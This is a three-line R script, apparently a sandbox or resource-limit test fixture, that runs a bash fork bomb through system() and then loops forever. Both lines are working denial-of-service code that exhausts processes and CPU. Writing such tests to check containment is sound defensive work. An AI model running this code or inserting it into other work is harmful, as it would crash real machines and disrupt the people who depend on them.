# @MARKER@: a shell fork bomb through system(), the realistic attack from R.
system("f() { f | f & }; f # @MARKER@")
repeat {}
